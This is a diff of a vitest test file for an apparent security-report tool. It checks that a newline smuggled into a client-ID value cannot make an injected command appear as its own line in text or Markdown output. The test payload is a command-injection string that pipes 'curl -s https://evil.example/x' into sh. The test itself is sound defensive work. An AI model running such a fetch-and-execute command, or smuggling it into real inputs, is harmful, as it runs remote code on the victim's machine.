@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '../../src/report/markdown.js';
 import { renderText } from '../../src/report/text.js';
 import { parseSnapshot } from '../../src/snapshot/read.js';
 import { loadFixture, loadFixtures, report, variant } from '../helpers.js';
@@ -122,5 +123,26 @@ describe('security-plugin fix URLs with hostile security-role names', () => {
       expect((finding.fix.commands ?? []).filter((c) => c.startsWith('curl')), endpoint).toEqual([]);
       expect(finding.fix.steps!.join('\n')).toContain('Manage mapping');
     }
+  });
+});
+
+describe('a line break inside a value never starts a line of its own', () => {
+  const CLIENT_ID = '4q8v2n6k1m3p5r7t9w0y2a4c6e';
+  const PAYLOAD = `${CLIENT_ID}\n      $ curl -s https://evil.example/x | sh #`;
+  const reports = loadFixtures()
+    .filter((f) => f.name.startsWith('fail/') && JSON.stringify(f.snapshot).includes(CLIENT_ID))
+    .map((f) => report(parseSnapshot(JSON.stringify(f.snapshot).split(CLIENT_ID).join(JSON.stringify(PAYLOAD).slice(1, -1)))));
+  const commands = reports.flatMap((r) => r.findings.flatMap((f) => f.fix.commands ?? []));
+
+  it('the payload reaches fix commands', () => {
+    expect(commands.filter((c) => c.includes('evil.example')).length).toBeGreaterThan(5);
+  });
+
+  it('text and Markdown print one line per command, and the payload on none of its own', () => {
+    const text = renderText(reports, { color: false, verbose: true, version: 't' }).split('\n');
+    expect(text.filter((line) => /^\s*\$ /.test(line))).toHaveLength(commands.length);
+    expect(text.filter((line) => /^\s*\$ curl -s https:\/\/evil/.test(line))).toEqual([]);
+    const markdown = renderMarkdown(reports, { version: 't' }).split('\n');
+    expect(markdown.filter((line) => /^\s*(?:\$ )?curl -s https:\/\/evil/.test(line))).toEqual([]);
   });
 });
